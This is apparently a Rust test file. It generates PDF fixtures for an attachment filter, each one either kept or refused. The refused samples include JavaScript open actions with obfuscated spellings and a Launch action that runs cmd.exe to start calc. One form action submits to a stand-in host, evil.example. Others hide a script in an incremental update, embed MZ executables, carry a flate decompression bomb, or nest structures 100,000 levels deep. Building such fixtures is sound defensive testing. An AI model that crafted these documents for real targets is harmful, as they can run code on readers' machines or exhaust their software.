//! PDFs.

use super::{Case, kept, pictures, refused};
use lopdf::{Dictionary, Document, Object, Stream, dictionary};
use wire::{attachment::Kind, refusal::Why};

/// A PDF of one page. `catalog` and `page` are what stands in these besides; `more` are objects from 5 on; `trailer` is what stands
/// in it besides.
fn pdf(catalog: &str, page: &str, more: &[&[u8]], trailer: &str) -> Vec<u8> {
    let mut objects: Vec<Vec<u8>> = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {catalog} >>").into_bytes(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R {page} >>").into_bytes(),
        b"<< /Length 31 >>\nstream\n0 0 m 100 100 l S 0 0 m 9 9 l S\nendstream".to_vec(),
    ];
    objects.extend(more.iter().map(|object| object.to_vec()));
    whole(&objects, trailer)
}

fn whole(objects: &[Vec<u8>], trailer: &str) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut places = Vec::new();
    for (number, object) in (1..).zip(objects) {
        places.push(bytes.len());
        bytes.extend(format!("{number} 0 obj\n").bytes());
        bytes.extend(object);
        bytes.extend(b"\nendobj\n");
    }
    let table = bytes.len();
    bytes.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).bytes());
    for place in places {
        bytes.extend(format!("{place:010} 00000 n \n").bytes());
    }
    let size = objects.len() + 1;
    bytes.extend(format!("trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{table}\n%%EOF\n").bytes());
    bytes
}

/// A PDF of exactly so many bytes.
pub fn padded(length: usize) -> Vec<u8> {
    let bare = pdf("", "", &[], "").len();
    // Room for a comment before the end.
    let fill = length - bare;
    let mut bytes = pdf("", "", &[], "");
    let table = bytes.windows(9).rposition(|nine| nine == b"startxref").expect("an end");
    let comment = [&b"%"[..], &vec![b'x'; fill - 2], b"\n"].concat();
    bytes.splice(table..table, comment);
    bytes
}

/// What a stream is as an object.
fn stream(dictionary: &str, content: &[u8]) -> Vec<u8> {
    let head = format!("<< {dictionary} /Length {} >>\nstream\n", content.len());
    [head.as_bytes(), content, b"\nendstream"].concat()
}

/// A document as newer programs write it: most objects packed in streams.
fn packed(more: Object) -> Vec<u8> {
    let mut document = Document::with_version("1.7");
    let pages = document.new_object_id();
    let contents = document.add_object(Stream::new(Dictionary::new(), b"0 0 m 9 9 l S".to_vec()));
    let page = document.add_object(dictionary! {
        "Type" => "Page", "Parent" => pages, "Contents" => contents, "MediaBox" => vec![0.into(), 0.into(), 612.into(), 792.into()],
    });
    document.objects.insert(pages, dictionary! { "Type" => "Pages", "Kids" => vec![page.into()], "Count" => 1 }.into());
    let more = document.add_object(more);
    let catalog = document.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages, "OpenAction" => more });
    document.trailer.set("Root", catalog);
    let mut bytes = Vec::new();
    document.save_modern(&mut bytes).expect("a PDF");
    bytes
}

/// Zeros packed a thousand to one, as a stream that is unfolded while a document is read.
pub fn bomb() -> Vec<u8> {
    let mut folded = Stream::new(Dictionary::new(), vec![b' '; 40_000_000]);
    folded.compress().expect("packed");
    assert!(folded.content.len() < 1_000_000);
    let object = stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &folded.content);
    pdf("", "", &[&object], "")
}

/// A list in a list in a list.
fn nested(open: &str, close: &str, deep: usize) -> Vec<u8> {
    let object = format!("{}{}", open.repeat(deep), close.repeat(deep));
    pdf("/Deep 5 0 R", "", &[object.as_bytes()], "")
}

pub fn cases() -> Vec<Case> {
    let plain = pdf("", "", &[], "");
    let action = |action: &str| pdf(&format!("/OpenAction {action}"), "", &[], "");
    let note = |note: &str| pdf("", &format!("/Annots [{note}]"), &[], "");
    let active = |name, bytes| refused(name, Why::AttachmentActive, bytes);
    let embedded = |name, bytes| refused(name, Why::AttachmentEmbedded, bytes);
    let damaged = |name, bytes| refused(name, Why::AttachmentDamaged, bytes);
    let script =
        || Object::Dictionary(dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") });
    let two = whole(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
            b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>".to_vec(),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>".to_vec(),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>".to_vec(),
        ],
        "",
    );
    let many = {
        let kids: String = (0..1_500).map(|at| format!("{} 0 R ", at + 3)).collect();
        let mut objects = vec![
            b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
            format!("<< /Type /Pages /Kids [{kids}] /Count 1500 >>").into_bytes(),
        ];
        objects.extend((0..1_500).map(|_| b"<< /Type /Page /Parent 2 0 R >>".to_vec()));
        whole(&objects, "")
    };
    let ring = whole(
        &[b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(), b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>".to_vec()],
        "",
    );
    let deep = {
        let mut objects = vec![b"<< /Type /Catalog /Pages 2 0 R >>".to_vec()];
        objects.extend((2..5_000).map(|at| format!("<< /Type /Pages /Kids [{} 0 R] /Count 1 >>", at + 1).into_bytes()));
        whole(&objects, "")
    };
    let picture = stream("/Type /XObject /Subtype /Image /Width 40 /Height 20 /Filter /DCTDecode", &pictures::photo());
    let picture_in_a_list = stream("/Type /XObject /Subtype /Image /Filter [/DCTDecode]", &pictures::photo());
    // The first version holds a program; the second hides it.
    let hidden = {
        let mut bytes = action("<< /S /JavaScript /JS (app.alert) >>");
        let before = bytes.windows(5).rposition(|five| five == b"\nxref").expect("a table") + 1;
        let place = bytes.len();
        bytes.extend(b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n");
        let table = bytes.len();
        let tail = format!(
            "xref\n1 1\n{place:010} 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev {before} >>\nstartxref\n{table}\n%%EOF\n"
        );
        bytes.extend(tail.bytes());
        bytes
    };
    let locked = {
        let keys = format!("/O <{0}> /U <{0}>", "41".repeat(32));
        let object = format!("<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 {keys} >>");
        pdf("", "", &[object.as_bytes()], "/Encrypt 5 0 R /ID [<61> <61>]")
    };
    let xref_ring = {
        let text = String::from_utf8_lossy(&plain).into_owned();
        let at = text.rfind("startxref\n").expect("an end") + 10;
        let number: String = text[at..].chars().take_while(char::is_ascii_digit).collect();
        pdf("", "", &[], &format!("/Prev {number}"))
    };
    let mut cases = vec![
        kept("a pdf", Kind::Pdf, plain.clone()),
        kept("two pages", Kind::Pdf, two),
        kept("a newer pdf", Kind::Pdf, packed(Object::Array(Vec::new()))),
        kept("lines behind its end", Kind::Pdf, [&plain[..], b"\r\n\r\n\0"].concat()),
        kept(
            "a link",
            Kind::Pdf,
            note("<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (https://canada.ca) >> >>"),
        ),
        kept("a first page to go to", Kind::Pdf, action("[3 0 R /Fit]")),
        kept("a photo in it", Kind::Pdf, pdf("", "/Resources << /XObject << /I 5 0 R >> >>", &[&picture], "")),
        kept(
            "a photo in it, otherwise said",
            Kind::Pdf,
            pdf("", "/Resources << /XObject << /I 5 0 R >> >>", &[&picture_in_a_list], ""),
        ),
        active("a program", action("<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
        active("a program spelled otherwise", action("<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")),
        active(
            "a program by its name alone",
            pdf("/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", "", &[b"<< >>"], ""),
        ),
        active("a program in a stream of objects", packed(script())),
        active("a program nothing leads to", pdf("", "", &[b"<< /S /JavaScript /JS (x) >>"], "")),
        active("a program that an update hides", hidden),
        active("a program when a page opens", pdf("", "/AA << /O << /S /JavaScript /JS (x) >> >>", &[], "")),
        active(
            "a program in a blank",
            note("<< /Type /Annot /Subtype /Widget /FT /Tx /AA << /K << /S /JavaScript /JS (x) >> >> >>"),
        ),
        active(
            "a program of the form",
            pdf("/AcroForm << /Fields [] /XFA 5 0 R >>", "", &[&stream("", b"<xdp/>")], ""),
        ),
        active("a start of a program", action("<< /S /Launch /F (cmd.exe) >>")),
        active("a start, on Windows", action("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")),
        active("a form that sends itself", action("<< /S /SubmitForm /F (https://evil.example) >>")),
        active("a form that fetches", action("<< /S /ImportData /F (x.fdf) >>")),
        active("a film", note("<< /Type /Annot /Subtype /Movie /Rect [0 0 1 1] >>")),
        active("rich media", note("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>")),
        active("a way into another file", action("<< /S /GoToE /T << /R /C /N (a) >> >>")),
        embedded(
            "a file in it",
            pdf("/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>", "", &[b"<< /Type /Filespec /F (a.exe) >>"], ""),
        ),
        embedded(
            "a file by its description",
            pdf("", "", &[b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>", &stream("", b"MZ")], ""),
        ),
        embedded("a file that nothing describes", pdf("", "", &[&stream("/Type /EmbeddedFile", b"MZ")], "")),
        embedded("a file pinned to a page", note("<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 1 1] >>")),
        refused("a lock", Why::AttachmentEncrypted, locked),
        damaged("a pdf cut at its half", plain[..plain.len() / 2].to_vec()),
        damaged("a pdf without its end", plain[..plain.len() - 7].to_vec()),
        damaged("the beginning of a pdf", b"%PDF-1.7\n".to_vec()),
        damaged("the beginning and the end", b"%PDF-1.7\n%%EOF\n".to_vec()),
        damaged("a page of the web before it", [&b"<html><script>alert(1)</script>"[..], &plain].concat()),
        damaged("a page of the web behind it", [&plain[..], b"<html><script>alert(1)</script>"].concat()),
        damaged("an archive behind it", [&plain[..], b"PK\x03\x04\x14\0\0\0\0\0"].concat()),
        damaged("no pages", whole(&[b"<< /Type /Catalog >>".to_vec()], "")),
        damaged("pages of pages without end", ring),
        damaged("no catalog", whole(&[b"<< >>".to_vec()], "")),
        refused("fifteen hundred pages", Why::AttachmentTooHeavy, many),
        refused("a stream that unfolds without end", Why::AttachmentTooHeavy, bomb()),
        damaged("lists a hundred thousand deep", nested("[", "]", 100_000)),
        damaged("lists that are never closed", nested("[", "", 100_000)),
        damaged("dictionaries a hundred thousand deep", nested("<< /A ", " >>", 100_000)),
        damaged("brackets a hundred thousand deep", nested("(", ")", 100_000)),
        damaged("a tree of five thousand storeys", deep),
        kept("a table that leads to itself", Kind::Pdf, xref_ring),
    ];
    cases.extend((0..4).map(|at| {
        let name = ["nonsense after the head", "a table of nonsense", "a place beyond the end", "a number too large"][at];
        let text = [
            "%PDF-1.7\nnonsense\n%%EOF",
            "%PDF-1.7\nxref\n0 1\nnonsense\ntrailer\n<<>>\nstartxref\n9\n%%EOF",
            "%PDF-1.7\nstartxref\n99999999\n%%EOF",
            "%PDF-1.7\nxref\n0 4294967295\n0000000000 65535 f \ntrailer\n<< /Size 99999999999999999999 >>\nstartxref\n9\n%%EOF",
        ][at];
        damaged(name, text.as_bytes().to_vec())
    }));
    cases
}
